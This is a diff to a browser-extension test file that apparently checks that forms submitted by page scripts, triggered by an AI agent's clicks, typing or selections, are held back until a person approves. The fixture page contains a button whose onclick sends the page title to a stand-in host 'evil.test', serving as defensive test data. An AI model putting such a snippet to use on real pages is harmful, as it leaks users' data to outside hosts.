@@ -3,7 +3,7 @@ import type { Settings } from '../../extension/memory/settings.ts';
 import { askAndAnswer } from '../support/browser/start-talks.ts';
 import { type Scene, startWaymark } from '../support/browser/start-waymark.ts';
 import { scriptedModel } from '../support/servers/scripted-model.ts';
-import { call, press, say } from '../support/servers/scripted-server.ts';
+import { call, press, type Received, type Script, say, uidOf } from '../support/servers/scripted-server.ts';
 
 const waymark = startWaymark();
 const server = scriptedModel();
@@ -17,7 +17,17 @@ const PAGE = `<!doctype html><title>Shop</title><h1>Shop</h1>
 <button onclick="new Image().src = 'http://evil.test/?' + document.title">Picture</button>
 <button onclick="document.querySelector('form').submit()">Tab</button>
 <button onclick="document.forms[1].submit()">Plain</button><form method="post" action="/send-it" target="elsewhere"><input type="hidden" name="a" value="b"></form>
-<form method="post" action="/plain"></form>`;
+<form method="post" action="/plain"></form>
+<form method="post" action="/chosen"><label>Size <select><option>Small</option><option>Large</option></select></label><label>Code <input></label>
+<label><input type="checkbox"> Gift</label></form>
+<form method="post" action="/found" role="search"><label>Sorted by <select><option>Name</option><option>Price</option></select></label></form>
+<script>
+  const [, , chosen, found] = document.forms;
+  chosen.querySelector('select').addEventListener('change', () => chosen.requestSubmit());
+  chosen.querySelector('input').addEventListener('input', () => chosen.submit());
+  chosen.querySelector('[type=checkbox]').addEventListener('change', () => HTMLFormElement.prototype.submit.call(chosen));
+  found.querySelector('select').addEventListener('change', () => found.requestSubmit());
+</script>`;
 
 beforeAll(async () => {
   const { context } = waymark.launched();
@@ -105,4 +115,35 @@ test('strict: rules do not outlive the panel', async () => {
   await expect.poll(rules, { interval: 20 }).toBeGreaterThan(0);
   await shown.panel.close();
   await expect.poll(rules).toBe(0);
+});
+
+/** Calls a tool on the element of a name. */
+const on =
+  (name: string, tool: string, given: object) =>
+  (request: Received): Script =>
+    call(tool, { ref: uidOf(request, name), ...given });
+
+test.each([
+  ['a choice', on('Size', 'change', { text: 'Large' })],
+  ['text', on('Code', 'type', { text: 'abc' })],
+  ['a tick', on('Gift', 'click', {})],
+])('a form that a script sends at %s is held back until a person allows it', async (_, step) => {
+  const denied = await scene('More');
+  server.answer(step, say('Done.'));
+  const [question] = await askAndAnswer(denied, 'Fill in the form', [false]);
+  expect(question, await denied.story()).toContain('POST http://shop.test/chosen');
+  expect(arrived).toEqual([]);
+  expect(await denied.tab.locator('h1').innerText()).toBe('Shop');
+
+  const allowed = await scene('More');
+  server.answer(step, say('Done.'));
+  await askAndAnswer(allowed, 'Fill in the form', [true]);
+  await expect.poll(() => arrived, { timeout: 5_000 }).toEqual(['POST shop.test/chosen']);
+});
+
+test('a form that looks something up is sent by a choice', async () => {
+  const shown = await scene('More');
+  server.answer(on('Sorted by', 'change', { text: 'Price' }), say('Done.'));
+  expect(await askAndAnswer(shown, 'Sort by price', []), await shown.story()).toEqual([]);
+  expect(arrived).toEqual(['POST shop.test/found']);
 });
